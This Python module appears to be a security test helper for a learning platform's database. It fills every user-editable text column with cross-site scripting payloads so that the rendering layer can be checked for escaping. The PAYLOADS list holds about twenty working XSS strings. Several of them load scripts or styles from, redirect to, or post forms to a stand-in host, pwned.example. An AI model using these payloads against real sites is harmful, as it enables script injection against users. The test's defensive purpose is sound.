"""Text that would run, were it ever taken for markup, in every column that people fill."""

import re
from collections.abc import Iterator

from sqlalchemy import Column, Connection, Engine, String, Table, case, cast, literal, update
from sqlalchemy.exc import IntegrityError

from lms.core.db import Model
from lms.core.types import ExactText

MARK = "pwned"
PAYLOADS = (
    "<script>window.pwned=1</script>",
    "</script><script>alert('pwned')</script>",
    "<img src=x onerror=alert('pwned')>",
    "\"><svg onload=alert('pwned')>",
    "' autofocus onfocus=alert('pwned') x='",
    '" onmouseover="alert(\'pwned\')" style="position:fixed;inset:0',
    "</title><script>alert('pwned')</script>",
    "</textarea><img src=x onerror=alert('pwned')>",
    "</option></select><svg/onload=alert('pwned')>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href='javascript:alert(`pwned`)'>pwned</a>",
    "[pwned](javascript:alert(1)) ![pwned](x)",
    "<math><mi xlink:href='javascript:alert(`pwned`)'>pwned",
    "<style>@import '//pwned.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=//pwned.example/'>",
    "<base href='//pwned.example/'>",
    "<form action='//pwned.example/'><button>pwned",
    '-->"/><script src=//pwned.example/x.js></script>',
    "&lt;script&gt;alert('pwned')&lt;/script&gt;",
    "\u300c<b onclick=alert('pwned')>\u5c71\u7530</b>\u300d{\u5c71|<script>alert('pwned')</script>}",
)
OURS = re.compile(
    r"action|age_band|area|asked|booking_number|code6|course_version|device|email|holder_digest|item|kind|locale|"
    r"media_type|nonce|number|organisation_kind|private_token|purpose|question_id|replaced_by|requirement|route|"
    r"rule_version|salt|sha256|subject|value|version|wording_version|.*(_?hash|_code|_key)"
)
"""Columns that hold what the product itself writes, or an address that somebody signs in with."""
OUR_TABLES = {"area_figure", "month_figure", "fact", "idempotency_key", "seal", "municipality", "tally"}


def filled_by_people() -> Iterator[tuple[Table, Column[str]]]:
    """Give each column of text that somebody fills in, in a form or a file."""
    for table in Model.metadata.sorted_tables:
        if table.name not in OUR_TABLES:
            yield from ((table, column) for column in table.columns if _is_filled_by_people(column))


def _is_filled_by_people(column: Column[str]) -> bool:
    return isinstance(column.type, ExactText) and not column.primary_key and not OURS.fullmatch(column.name)


def write_payloads(engine: Engine) -> list[str]:
    """Write the texts into the rows, one after the other, and name the columns that hold them now."""
    with engine.begin() as connection:
        return [
            str(column)
            for turn, (table, column) in enumerate(filled_by_people())
            if _write(connection, table, column, turn)
        ]


def _write(connection: Connection, table: Table, column: Column[str], turn: int) -> bool:
    """Write into one column, each row another text and no two alike; False where the table refuses it."""
    row = next(iter(table.primary_key))
    before = "https://a.example/" if "url" in column.name else ""
    which = (row + turn) % len(PAYLOADS)
    text = case(*((which == place, literal(before + payload)) for place, payload in enumerate(PAYLOADS)))
    try:
        with connection.begin_nested():
            connection.execute(update(table).values({column: text.concat(cast(row, String))}))
    except IntegrityError:
        return False
    return True
